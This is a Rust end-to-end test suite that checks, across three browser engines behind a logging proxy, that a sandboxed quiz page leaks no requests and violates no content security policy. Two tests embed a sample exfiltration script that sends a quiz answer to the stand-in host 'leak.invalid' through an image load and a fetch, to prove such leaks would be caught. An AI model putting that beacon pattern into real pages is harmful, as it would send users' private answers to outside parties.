//! The same promises in Chromium, Firefox and WebKit, behind a proxy that sees every request.

#![allow(clippy::unwrap_used, clippy::indexing_slicing)]

use std::collections::{BTreeMap, BTreeSet};
use std::time::{Duration, Instant};

use e2e::{Browser, Engine, OUTCOMES, Proxy, SANDBOX, Server, Visitor, case, dist, document, with_probe};
use serde_json::json;

/// A page of nothing, which asks for no icon either.
const BLANK: &str = "<!doctype html><meta charset=utf-8><link rel=icon href=data:,><title>blank</title>";

/// Makes a test of each fact for each browser.
macro_rules! in_every_browser {
    ($($fact:ident),+) => {
        in_every_browser!(@ chromium Chromium $($fact)+);
        in_every_browser!(@ firefox Firefox $($fact)+);
        in_every_browser!(@ webkit WebKit $($fact)+);
    };
    (@ $browser:ident $engine:ident $($fact:ident)+) => {
        mod $browser {
            $(
                #[tokio::test]
                async fn $fact() {
                    super::$fact(e2e::Engine::$engine).await;
                }
            )+
        }
    };
}

in_every_browser!(
    every_outcome_is_reached_and_nothing_is_asked_for,
    a_request_from_such_a_frame_would_be_seen,
    without_the_sandbox_there_is_only_the_leaflet,
    where_the_leaflet_is_asked_for_or_baked_in_there_is_no_question,
    a_whole_quiz_violates_no_policy,
    a_violation_would_be_noticed,
    who_went_on_before_the_engine_is_there_comes_to_the_second_question_and_back
);

/// The dist folder and these pages.
fn server(pages: &[(&str, &str)]) -> Server {
    let pages = pages.iter().map(|(path, page)| ((*path).to_owned(), (*page).to_owned()));
    Server::with_pages(dist(), pages.collect::<BTreeMap<_, _>>()).unwrap()
}

/// A page with a document in a frame with the very sandbox of the snippet.
fn framed(document: &str) -> String {
    format!("{BLANK}<iframe src='{document}' sandbox='{SANDBOX}' width=400 height=700></iframe>")
}

/// A browser that shows a page of nothing for as long as the other takes the quiz.
struct Control {
    browser: Browser,
    proxy: Proxy,
}

impl Control {
    async fn start(engine: Engine, server: &Server) -> Self {
        let proxy = Proxy::before(server).await.unwrap();
        let browser = Browser::start_as(engine, Some(&proxy)).await.unwrap();
        browser.client.goto(&server.address("/blank.html")).await.unwrap();
        Self { browser, proxy }
    }

    /// The hosts elsewhere that the browser asked for by itself.
    async fn hosts(self, server: &Server) -> BTreeSet<String> {
        self.browser.end().await.unwrap();
        self.proxy.requests().iter().filter(|request| !is_to(server, request)).map(|request| host(request)).collect()
    }
}

fn is_to(server: &Server, request: &str) -> bool {
    request.contains(&format!(" {}", server.address("/")))
}

/// The host of `GET http://host/path` or of `CONNECT host:443`.
fn host(request: &str) -> String {
    let target = request.rsplit(' ').next().unwrap();
    let from_host = target.split_once("://").map_or(target, |(_, rest)| rest);
    from_host.split(['/', ':']).next().unwrap().to_owned()
}

/// How the requests for these files of the server are written down, in order of the alphabet.
fn asked(server: &Server, paths: &[&str]) -> Vec<String> {
    paths.iter().map(|path| format!("GET {}", server.address(path))).collect()
}

async fn every_outcome_is_reached_and_nothing_is_asked_for(engine: Engine) {
    let server = server(&[("/blank.html", BLANK)]);
    let control = Control::start(engine, &server).await;
    let proxy = Proxy::before(&server).await.unwrap();
    let browser = Browser::start_as(engine, Some(&proxy)).await.unwrap();
    // Each load and each quiz adds to the log what is written here, and no line more to the test's server.
    let (own, mut expected) = (|| proxy.requests().into_iter().filter(|one| is_to(&server, one)), Vec::new());
    for (id, tier) in OUTCOMES {
        let visitor = Visitor::on_page(&browser.client, &server.address("/plain.html")).await.unwrap();
        let mut loaded: Vec<String> = own().skip(expected.len()).collect();
        loaded.sort();
        assert_eq!(loaded, asked(&server, &["/pars-check.en.html", "/plain.html", "/style.css"]), "{id}: at the load");
        expected.extend(own().skip(expected.len()));
        let (seen, _) = visitor.take(&case(id).unwrap()).await.unwrap();
        assert_eq!(seen.outcome.as_deref(), Some(tier), "{id}");
        let seen = visitor.press("restart").await.unwrap();
        assert_eq!(seen.questions, ["age"], "{id}: starting over stays here");
        // What was asked for on the way, or on leaving, is in the log when the next page is there.
        browser.client.goto(&server.address("/blank.html")).await.unwrap();
        expected.extend(asked(&server, &["/blank.html"]));
        assert_eq!(own().collect::<Vec<_>>(), expected, "{id}: after the load");
    }
    browser.end().await.unwrap();
    let by_itself = control.hosts(&server).await;
    let elsewhere = proxy.requests().into_iter().filter(|one| !is_to(&server, one) && !by_itself.contains(&host(one)));
    assert_eq!(elsewhere.collect::<Vec<_>>(), Vec::<String>::new(), "on a blank page it asks for {by_itself:?}");
}

async fn a_request_from_such_a_frame_would_be_seen(engine: Engine) {
    let leak = format!(
        "{BLANK}<script>new Image().src = 'http://leak.invalid/?answer=35_49'; new Image().src = '/leak.png?answer=35_49'; \
         fetch('https://leak.invalid/').catch(() => {{}})</script>"
    );
    let server = server(&[("/leak.html", &leak), ("/host.html", &framed("leak.html"))]);
    let proxy = Proxy::before(&server).await.unwrap();
    let browser = Browser::start_as(engine, Some(&proxy)).await.unwrap();
    browser.client.goto(&server.address("/host.html")).await.unwrap();
    let own = format!("GET {}", server.address("/leak.png?answer=35_49"));
    for leaked in ["GET http://leak.invalid/?answer=35_49", &own, "CONNECT leak.invalid:443"] {
        let end = Instant::now() + Duration::from_secs(15);
        while !proxy.requests().iter().any(|request| request == leaked) {
            assert!(Instant::now() < end, "{leaked} is not in {:?}", proxy.requests());
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
    }
    browser.end().await.unwrap();
}

async fn without_the_sandbox_there_is_only_the_leaflet(engine: Engine) {
    let frame =
        |sandbox: &str| format!("{BLANK}<iframe src=pars-check.en.html {sandbox} width=400 height=700></iframe>");
    let server = server(&[
        ("/none.html", &frame("")),
        ("/same-origin.html", &frame("sandbox='allow-scripts allow-same-origin'")),
    ]);
    let browser = Browser::start_as(engine, None).await.unwrap();
    for page in ["/none.html", "/same-origin.html"] {
        browser.client.goto(&server.address(page)).await.unwrap();
        browser.client.enter_frame(0).await.unwrap();
        let visitor = Visitor::outside(&browser.client);
        let is_whole = "return document.readyState === 'complete' && !!document.getElementById('leaflet')";
        visitor.until("the document", is_whole).await.unwrap();
        let text = visitor.read_leaflet().await.unwrap();
        assert!(text.contains("has removed the protection"), "{page}: {text}");
    }
    browser.end().await.unwrap();
}

async fn where_the_leaflet_is_asked_for_or_baked_in_there_is_no_question(engine: Engine) {
    let document = std::fs::read_to_string(dist().join("pars-check.en.html")).unwrap();
    let baked = document.replace("id=\"settings\">{}<", "id=\"settings\">{\"mode\":\"leaflet\"}<");
    assert_ne!(baked, document, "the document has an empty block of settings");
    let unsealed = format!("{BLANK}<iframe src='pars-check.en.html#mode=leaflet' width=400 height=700></iframe>");
    let server = server(&[
        ("/baked.html", &baked),
        ("/host.html", &framed("pars-check.en.html#mode=leaflet")),
        ("/host-baked.html", &framed("baked.html")),
        ("/unsealed.html", &unsealed),
    ]);
    let browser = Browser::start_as(engine, None).await.unwrap();
    let visitor = Visitor::outside(&browser.client);
    for (page, is_framed) in [
        ("/pars-check.en.html#mode=leaflet", false),
        ("/baked.html", false),
        ("/host.html", true),
        ("/host-baked.html", true),
        // Where nothing is asked, a frame without a sandbox takes nothing away, and no link leads to the questions.
        ("/unsealed.html", true),
    ] {
        browser.client.goto(&server.address(page)).await.unwrap();
        if is_framed {
            browser.client.enter_frame(0).await.unwrap();
        }
        let is_whole = "return document.readyState === 'complete' && !!document.getElementById('leaflet')";
        visitor.until("the document", is_whole).await.unwrap();
        let text = visitor.read_leaflet().await.unwrap();
        for wrong in ["has removed the protection", "can't run here"] {
            assert!(!text.contains(wrong), "{page}: {wrong}");
        }
        browser.leave_frames().await.unwrap();
    }
    browser.end().await.unwrap();
}

/// The document in a frame with the snippet's sandbox, with a script in it that notes violations of the policy.
fn probed(more: &str) -> Server {
    let probe = format!(
        "window.violations = []; addEventListener('securitypolicyviolation', (event) => \
         violations.push(event.effectiveDirective + ' ' + event.blockedURI)); {more}"
    );
    let probed = with_probe(&document().unwrap(), &probe).unwrap();
    server(&[("/probed.html", &probed), ("/host.html", &framed("probed.html"))])
}

async fn a_whole_quiz_violates_no_policy(engine: Engine) {
    let server = probed("");
    let browser = Browser::start_as(engine, None).await.unwrap();
    let visitor = Visitor::on_page(&browser.client, &server.address("/host.html")).await.unwrap();
    let (seen, _) = visitor.take(&case("V47").unwrap()).await.unwrap();
    assert_eq!(seen.outcome.as_deref(), Some("surgical_discussion"));
    visitor.press("restart").await.unwrap();
    // The style stands before the probe: had it been refused, it would not be among the sheets.
    let found = visitor.run("return [window.violations, document.styleSheets.length]").await.unwrap();
    assert_eq!(found, json!([[], 1]));
    browser.end().await.unwrap();
}

async fn a_violation_would_be_noticed(engine: Engine) {
    let server = probed("new Image().src = 'http://leak.invalid/?answer=35_49'");
    let proxy = Proxy::before(&server).await.unwrap();
    let browser = Browser::start_as(engine, Some(&proxy)).await.unwrap();
    let visitor = Visitor::on_page(&browser.client, &server.address("/host.html")).await.unwrap();
    visitor.until("a violation", "return window.violations.length > 0").await.unwrap();
    let found = visitor.run("return window.violations[0]").await.unwrap();
    assert!(found.as_str().unwrap().starts_with("img-src http://leak.invalid/"), "{found}");
    browser.end().await.unwrap();
    let leaked = proxy.requests().into_iter().filter(|request| request.contains("leak.invalid"));
    assert_eq!(leaked.collect::<Vec<_>>(), Vec::<String>::new(), "the policy lets nothing out");
}

/// Answers and goes on before the engine is there, and writes down which questions stand in the page, one after another.
const EARLY: &str = r#"
    window.questions = [];
    new MutationObserver(() => {
        const now = document.querySelector('#app fieldset')?.dataset.question;
        if (now && now !== window.questions.at(-1)) window.questions.push(now);
    }).observe(document, {childList: true, subtree: true});
    document.addEventListener('DOMContentLoaded', () => {
        document.querySelector('#app input[value="35_49"]').click();
        document.querySelector('#app [data-action=continue]').click();
    });"#;

async fn who_went_on_before_the_engine_is_there_comes_to_the_second_question_and_back(engine: Engine) {
    let server = probed(EARLY);
    let browser = Browser::start_as(engine, None).await.unwrap();
    for page in ["/probed.html", "/host.html"] {
        browser.client.goto(&server.address(page)).await.unwrap();
        if page == "/host.html" {
            browser.client.enter_frame(0).await.unwrap();
        }
        let visitor = Visitor::outside(&browser.client);
        let is_asked = |id: &str| format!("return !!document.querySelector('fieldset[data-question={id}]')");
        visitor.until(&format!("the second question, {page}"), &is_asked("rf_now")).await.unwrap();
        // The entry for Back is there though the document has only just come. A frame that nobody is in takes no focus.
        let seen = "return [window.questions, history.state,
            self !== top || document.activeElement.id.endsWith('-heading')]";
        assert_eq!(visitor.run(seen).await.unwrap(), json!([["age", "rf_now"], "pars-check", true]), "{page}");
        visitor.press("back").await.unwrap();
        visitor.until(&format!("the first question again, {page}"), &is_asked("age")).await.unwrap();
        let kept = "return document.querySelector('#app input:checked')?.value";
        assert_eq!(visitor.run(kept).await.unwrap(), "35_49", "{page}");
        browser.leave_frames().await.unwrap();
    }
    browser.end().await.unwrap();
}
